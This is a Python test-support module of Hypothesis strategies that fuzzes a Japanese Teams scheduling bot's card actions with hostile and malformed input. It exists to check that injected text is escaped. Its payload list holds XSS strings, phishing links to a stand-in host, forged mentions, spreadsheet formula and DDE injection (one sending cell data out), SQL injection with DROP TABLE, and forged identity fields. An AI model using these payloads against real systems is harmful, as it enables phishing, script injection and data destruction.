"""Hypothesis strategies for what a hostile or broken client can put in a message or a card
action: wrong types, huge strings, control characters, markdown and HTML, `<at>` tags, forged
identities, missing fields.

Every hostile string carries a marker (`MARK…`) so a test can find where it ended up; the
fragments in `INJECTIONS` must never reach anything Teams reads as markdown.
"""

from __future__ import annotations

import itertools
import re
from typing import Any

from hypothesis import strategies as st

from tests.reliability.world import NEXT_EVENT, PAST_EVENT, POLL_ID

EVIL_LINK = "](https://evil.example/login"
EVIL_MENTION = "<at>Evil Admin</at>"
# Present in a bot's markdown only if someone's text was put there as it was typed: a link,
# a mention, HTML, emphasis or code from the payloads below.
INJECTIONS = re.compile(r"\]\(https?:|<at>Evil|<img|<script|\*\*太字\*\*|`code`")

PAYLOADS = (
    f"[x{EVIL_LINK})",
    f"[今すぐログイン{EVIL_LINK})",
    f"![x{EVIL_LINK}.png)",
    EVIL_MENTION,
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "**太字** _斜体_ ~~取消~~ `code` # 見出し",
    "> 引用\n- 箇条書き\n1. 番号",
    "&lt;b&gt;&amp;&#x3C;",
    '=HYPERLINK("https://evil.example/?x="&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\u202eevil\u202c",  # right-to-left override
    "\x00\x01\x07\x1b[31m\x7f",
    "\r\n\t\u2028\u2029",
    "ｆｕｌｌｗｉｄｔｈ　１２/１０",
    "😀👨‍👩‍👧‍👦🇯🇵",
    "' OR 1=1; DROP TABLE poll; --",
    "{{title}} ${title} %s %(title)s {0}",
)

_marks = itertools.count(1)


def new_marker() -> str:
    """A string no card or catalog text contains, that NFKC, trimming and case folding keep."""
    return f"MARK{next(_marks):05d}Q"


@st.composite
def hostile_text(draw: st.DrawFn, marker: str, *, max_size: int = 60) -> str:
    """Text a person could type or a client could send, with `marker` at its start (or end)."""
    body = draw(
        st.one_of(
            st.sampled_from(PAYLOADS),
            st.text(max_size=max_size),
            st.text(st.characters(codec="utf-8"), max_size=max_size),
            st.lists(st.sampled_from(PAYLOADS), min_size=2, max_size=4).map(" ".join),
            st.integers(1_000, 60_000).map(lambda n: "長" * n),  # huge, under the body limit
        )
    )
    return draw(st.sampled_from((f"{marker} {body}", f"{body} {marker}", f"{marker}{body}")))


def wrong_types(marker: str) -> st.SearchStrategy[Any]:
    """Values of the wrong JSON type for a field (and a few extreme right-typed ones)."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.sampled_from((0, -1, 2**31 - 1, 2**31, 2**63, -(2**63) - 1, 10**30)),
        st.floats(allow_nan=False, allow_infinity=False),
        st.just(""),
        st.just(" "),
        st.just("１２"),
        st.just("²"),
    )
    return st.one_of(
        scalars,
        st.lists(scalars, max_size=3),
        st.dictionaries(st.text(max_size=5), scalars, max_size=3),
        st.just({"$ref": marker}),
        st.just([marker, {"verb": "poll.cancel.confirm"}]),
    )


def any_value(marker: str) -> st.SearchStrategy[Any]:
    return st.one_of(hostile_text(marker), wrong_types(marker))


# Card data that real cards send, per verb: what a hostile example starts from.
VALID_DATA: dict[str, dict[str, Any]] = {
    "help.try": {"command": "ヘルプ"},
    "poll.create": {
        "title": "研修",
        "dates": "12/20\n12/21",
        "venue": "",
        "capacity": "",
        "deadline": "",
        "hide_results": "false",
    },
    "poll.answer": {
        "poll_id": POLL_ID,
        "choice_1": "onsite",
        "choice_2": "no",
        "comment": "よろしく",
    },
    "poll.deadline.save": {"poll_id": POLL_ID, "deadline": "12/9"},
    "poll.candidates.save": {"poll_id": POLL_ID, "add": "12/18", "remove": "3"},
    "poll.decide": {"poll_id": POLL_ID, "candidate_id": 2},
    "poll.decide.confirm": {"poll_id": POLL_ID, "candidate_id": 2},
    "event.create": {
        "title": "第4回IYO WORK",
        "date": "2027/1/20",
        "venue": "",
        "capacity": "8",
        "meeting_url": "",
        "deadline": "",
    },
    "event.register": {
        "event_id": NEXT_EVENT,
        "mode": "onsite",
        "municipality": "matsuyama",
        "department": "情報政策課",
        "slot": "am",
        "note": "よろしくお願いします",
    },
    "event.edit.save": {
        "event_id": NEXT_EVENT,
        "title": "第3回IYO WORK",
        "date": "12/16",
        "venue": "八幡浜市役所",
        "capacity": "3",
        "meeting_url": "",
        "deadline": "",
    },
    "feedback.open": {"event_id": PAST_EVENT},
    "feedback.submit": {
        "event_id": PAST_EVENT,
        "rating": "4",
        "good": "よかった",
        "trouble": "",
        "issues": "",
        "issue_details": "",
        "next_themes": "Power Automate",
        "again": "",
        "recommend": "",
        "anonymous": "false",
    },
}


def valid_data(verb: str) -> dict[str, Any]:
    """What a real card sends for `verb`: its own entry, else the subject it names."""
    if verb in VALID_DATA:
        return dict(VALID_DATA[verb])
    if verb.startswith("poll."):
        return {"poll_id": POLL_ID}
    if verb.startswith("feedback."):
        return {"event_id": PAST_EVENT}
    if verb.startswith(("event.", "attendees.")):
        return {"event_id": NEXT_EVENT}
    return {}


FORGED_KEYS = ("person_key", "from", "user_id", "aadObjectId", "teams_id", "name", "verb")


@st.composite
def hostile_data(draw: st.DrawFn, verb: str, marker: str) -> dict[str, Any]:
    """A real card's data for `verb`, each field kept, dropped, or replaced by something
    hostile, plus forged identity fields."""
    data: dict[str, Any] = {}
    for key, value in valid_data(verb).items():
        fate = draw(st.sampled_from(("keep", "keep", "drop", "text", "type")))
        if fate == "keep":
            data[key] = value
        elif fate == "text":
            data[key] = draw(hostile_text(marker))
        elif fate == "type":
            data[key] = draw(wrong_types(marker))
    extra = draw(st.lists(st.sampled_from(FORGED_KEYS), unique=True, max_size=3))
    for key in extra:
        data[key] = draw(any_value(marker))
    if key_of := draw(st.sampled_from(("", "", "choice_3", "comment", "note", "good"))):
        data.setdefault(key_of, draw(hostile_text(marker)))
    return data


__all__ = [
    "EVIL_LINK",
    "EVIL_MENTION",
    "INJECTIONS",
    "VALID_DATA",
    "any_value",
    "hostile_data",
    "hostile_text",
    "new_marker",
    "valid_data",
    "wrong_types",
]
